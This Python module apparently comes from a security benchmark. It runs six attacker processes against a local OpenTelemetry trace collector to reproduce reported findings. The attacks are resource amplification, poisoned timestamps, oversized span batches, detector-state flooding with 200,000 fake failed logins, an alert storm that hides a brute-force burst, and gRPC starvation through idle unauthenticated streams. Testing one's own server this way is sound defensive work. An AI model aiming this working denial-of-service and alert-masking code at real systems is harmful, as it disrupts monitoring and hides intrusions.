"""The attackers, one function per finding of issue 14, each run in a spawned process.

An attacker sends until its ``stop`` event is set (or it has sent all it means to) and
reports over a pipe as it goes: ``("sent", bytes)`` before each request, ``("answer",
label)`` after it, ``("note", text)`` for what the table's notes should say. Bytes are
counted when sent, so a request the server never answers still counts. Attackers with a
token (findings 1, 2, 4, 5, 6: a compromised or careless producer) send it; the gRPC
starvation attacker (finding 3) has none.
"""

from __future__ import annotations

import http.client
import threading
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass
from multiprocessing.connection import Connection
from multiprocessing.synchronize import Event
from typing import Any, Final

import grpc
from google.protobuf.message import DecodeError
from google.rpc.status_pb2 import Status
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceResponse

from bench.attacks import traffic
from bench.load import EXPORT_METHOD

_TIMEOUT_S: Final = 120.0
AMPLIFY_PROBE_BYTES: Final = 1_572_864  # 1.5 MiB, the finding's resource
#: Resource sizes tried from the probe down; the largest fully accepted one is sent.
_AMPLIFY_STEPS: Final = (AMPLIFY_PROBE_BYTES, 786_432, 262_144, 65_536, 16_384, 4_096, 1_024)
DETECTOR_ACTORS: Final = 200_000
STORM_ROLE_CHANGES: Final = 30_000
STORM_VICTIM: Final = "cfo@example.com"
IDLE_STREAMS: Final = 16


@dataclass(frozen=True)
class Target:
    """Where and how to attack."""

    http_port: int
    grpc_port: int
    token: str
    duration_s: float  # how long the honest client runs beside the attacker


class Report:
    """The attacker's side of the pipe."""

    def __init__(self, conn: Connection) -> None:
        """Report over ``conn``."""
        self.conn = conn
        self.lock = threading.Lock()

    def sent(self, nbytes: int) -> None:
        """Bytes about to go out."""
        with self.lock:
            self.conn.send(("sent", nbytes))

    def answer(self, label: str) -> None:
        """How the server answered one request."""
        with self.lock:
            self.conn.send(("answer", label))

    def note(self, text: str) -> None:
        """A line for the table's notes."""
        with self.lock:
            self.conn.send(("note", text))


class HttpExporter:
    """OTLP/HTTP protobuf exports with the attacker's token, one keep-alive connection."""

    def __init__(self, target: Target, report: Report) -> None:
        """Connect lazily to ``target``."""
        self.target, self.report = target, report
        self.conn = http.client.HTTPConnection("127.0.0.1", target.http_port, timeout=_TIMEOUT_S)

    def export(self, payload: bytes) -> tuple[bool, str]:
        """Send one request: (every span accepted, answer label)."""
        self.report.sent(len(payload))
        headers = {
            "Content-Type": "application/x-protobuf",
            "Authorization": f"Bearer {self.target.token}",
        }
        try:
            self.conn.request("POST", "/v1/traces", body=payload, headers=headers)
            resp = self.conn.getresponse()
            body = resp.read()
        except (OSError, http.client.HTTPException) as exc:
            self.conn.close()
            label, ok = type(exc).__name__, False
        else:
            ok, label = _label(resp.status, body)
        self.report.answer(label)
        return ok, label


def _status_message(body: bytes) -> str:
    """The message of a ``google.rpc.Status`` body (OTLP/HTTP errors), else the text."""
    try:
        message = str(Status.FromString(body).message)
    except DecodeError:
        message = ""
    text = message or body[:200].decode(errors="replace")
    return "".join(c for c in text if c.isprintable() and c != "\ufffd")[:200]


def _label(status: int, body: bytes) -> tuple[bool, str]:
    if status != 200:
        return False, f"HTTP {status} {_status_message(body)}".strip()
    partial = ExportTraceServiceResponse.FromString(body).partial_success
    if partial.rejected_spans:
        reason = partial.error_message[:120]
        return False, f"200, {partial.rejected_spans} spans rejected: {reason}"
    return True, "200"


def amplification(target: Target, report: Report, stop: Event) -> None:
    """Finding 1: the 1.5 MiB resource (its answer noted), then the largest resource the
    server accepts whole (steps down, then bisection), over 100 tiny audit spans per
    request, as fast as answered."""
    spans, http_ = traffic.Spans(), HttpExporter(target, report)

    def accepted(size: int) -> bool:
        ok, label = http_.export(traffic.amplification(spans, traffic.big_resource(size)))
        if size == AMPLIFY_PROBE_BYTES:
            report.note(f"1.5 MiB resource + 100 spans answered: {label}")
        return ok

    chosen, refused = 0, 0
    for size in _AMPLIFY_STEPS:
        if stop.is_set():
            return
        if accepted(size):
            chosen = size
            break
        refused = size
    if not chosen:
        report.note("no resource of 1 KiB or more was accepted; sending 1 KiB anyway")
        chosen = _AMPLIFY_STEPS[-1]
    while refused and refused - chosen > max(512, chosen // 16) and not stop.is_set():
        middle = (chosen + refused) // 2
        chosen, refused = (middle, refused) if accepted(middle) else (chosen, middle)
    report.note(f"largest resource accepted: {chosen / 1024:,.0f} KiB")
    res = traffic.big_resource(chosen)
    while not stop.is_set():
        http_.export(traffic.amplification(spans, res))


def poison(target: Target, report: Report, stop: Event) -> None:
    """Finding 2: 20 requests a second of 10 audit spans, one starting at 2^64-1 ns."""
    spans, http_ = traffic.Spans(), HttpExporter(target, report)
    started, k = time.monotonic(), 0
    while not stop.is_set():
        http_.export(traffic.poisoned_batch(spans))
        k += 1
        stop.wait(max(0.0, started + k / 20 - time.monotonic()))


def many_records(target: Target, report: Report, stop: Event) -> None:
    """Finding 4: one request of 500,000 minimal spans, sent again once answered (as an
    exporter retries it)."""
    http_ = HttpExporter(target, report)
    payload = traffic.many_records(traffic.Spans())
    while not stop.is_set():
        http_.export(payload)


def detector_state(target: Target, report: Report, stop: Event) -> None:
    """Finding 5: failed logins of 200,000 distinct actors, 1,000 a request, closed loop."""
    spans, http_ = traffic.Spans(), HttpExporter(target, report)
    sent = 0
    while sent < DETECTOR_ACTORS and not stop.is_set():
        http_.export(traffic.failed_logins(spans, sent, 1_000))
        sent += 1_000
    report.note(f"{sent:,} distinct actors sent")


def alert_storm(target: Target, report: Report, stop: Event) -> None:
    """Finding 6: 30,000 role changes to admin, 500 a request, with a brute force against
    one account (30 failed logins) sent half way (by count, or by time if the server
    takes them more slowly than that)."""
    spans, http_ = traffic.Spans(), HttpExporter(target, report)
    sent, half_time, forced = 0, time.monotonic() + target.duration_s / 2, False
    while sent < STORM_ROLE_CHANGES and not stop.is_set():
        http_.export(traffic.role_changes(spans, sent, 500))
        sent += 500
        if not forced and (sent >= STORM_ROLE_CHANGES // 2 or time.monotonic() >= half_time):
            forced = True
            _ok, label = http_.export(traffic.brute_force(spans, STORM_VICTIM))
            report.note(f"brute force against {STORM_VICTIM} sent after {sent:,}: {label}")
    report.note(f"{sent:,} role changes sent")


def grpc_starvation(target: Target, report: Report, stop: Event) -> None:
    """Finding 3: 16 Export calls without a token that send their headers and no message,
    held open; a call the server ends is noted and opened again a second later."""
    opts = [("grpc.use_local_subchannel_pool", 1)]
    channels = [
        grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", options=opts) for _ in range(4)
    ]

    def requests() -> Any:
        stop.wait()
        yield from ()

    def hold(channel: grpc.Channel) -> None:
        call = channel.stream_unary(EXPORT_METHOD, request_serializer=None,
                                    response_deserializer=None)  # fmt: skip
        while not stop.is_set():
            future: Any = call.future(requests())
            while not future.done() and not stop.is_set():
                time.sleep(0.05)
            if stop.is_set():
                future.cancel()
                return
            exc = future.exception()
            code = "OK" if exc is None else exc.code().name
            report.answer(f"idle stream ended by the server: gRPC {code}")
            stop.wait(1.0)

    threads = [
        threading.Thread(target=hold, args=(channels[i % len(channels)],), daemon=True)
        for i in range(IDLE_STREAMS)
    ]
    for t in threads:
        t.start()
    report.note(f"{IDLE_STREAMS} idle streams over {len(channels)} connections, no token")
    stop.wait()
    for t in threads:
        t.join(5)
    for c in channels:
        c.close()


ATTACKERS: Final[dict[str, Callable[[Target, Report, Event], None]]] = {
    "amplification": amplification,
    "timestamp": poison,
    "grpc_idle": grpc_starvation,
    "many_records": many_records,
    "detector": detector_state,
    "storm": alert_storm,
}


def entry(name: str, target: Target, conn: Connection, stop: Event) -> None:
    """The attacker process: run attacker ``name`` and close the pipe."""
    report = Report(conn)
    try:
        ATTACKERS[name](target, report, stop)
    except BaseException:
        report.note("attacker failed: " + traceback.format_exc().strip().splitlines()[-1])
    finally:
        conn.close()
